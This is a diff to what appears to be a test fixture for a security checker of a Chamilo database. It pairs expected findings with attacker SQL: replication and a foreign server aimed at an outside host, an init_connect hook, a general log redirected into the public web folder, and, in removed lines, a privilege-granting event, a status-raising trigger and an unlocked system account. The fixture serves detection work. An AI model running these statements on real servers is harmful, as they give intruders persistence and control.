@@ -75,6 +75,16 @@ IN_THE_PORTALS_DATABASE = {
     "Runs in the database, as its definer: view chamilo.hashes, as root@localhost:": (
         "CREATE VIEW hashes AS SELECT Host FROM mysql.user"
     ),
+    "Done by the database server itself: replication x from 192.0.2.66": (
+        "CHANGE MASTER 'x' TO MASTER_HOST='192.0.2.66', MASTER_USER='x'"
+    ),
+    "Done by the database server itself: remote server evil: mysql at 192.0.2.66": (
+        "CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.66')"
+    ),
+    "Done by the database server itself: variable init_connect: CALL x()": "SET GLOBAL init_connect = 'CALL x()'",
+    f"Done by the database server itself: variable general_log_file: {ROOT}/public/build/note.txt": (
+        f"SET GLOBAL general_log_file = '{ROOT}/public/build/note.txt'"
+    ),
     "Administrator made in the last 30 days, or with the account of a pupil: second.admin": (
         "UPDATE user SET created_at = NOW() WHERE username = 'second.admin'"
     ),
@@ -189,16 +199,6 @@ IN_THE_DATABASE = {
     ),
     "ALTER USER 'mariadb.sys'@localhost IDENTIFIED VIA mysql_native_password USING PASSWORD('evil-1') ACCOUNT UNLOCK": (
         "ALTER USER 'mariadb.sys'@'localhost' ACCOUNT LOCK;"
-    ),
-    "CHANGE MASTER 'x' TO MASTER_HOST='192.0.2.66', MASTER_USER='x'; START SLAVE 'x'": "RESET SLAVE 'x' ALL;",
-    "CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.66')": "DROP SERVER `evil`;",
-    "SET GLOBAL init_connect = 'CALL x()'": "SET GLOBAL init_connect = '';",
-    f"SET GLOBAL general_log_file = '{ROOT}/public/build/note.txt'": "SET GLOBAL general_log_file = DEFAULT;",
-    "CREATE DATABASE hidden; CREATE EVENT hidden.again ON SCHEDULE EVERY 1 DAY DO GRANT ALL ON *.* TO x@localhost": (
-        "DROP EVENT `hidden`.`again`;"
-    ),
-    "CREATE TRIGGER raise AFTER INSERT ON track_e_login FOR EACH ROW UPDATE user SET status = 1 WHERE username = 'x'": (
-        "DROP TRIGGER `chamilo`.`raise`;"
     ),
 }
 
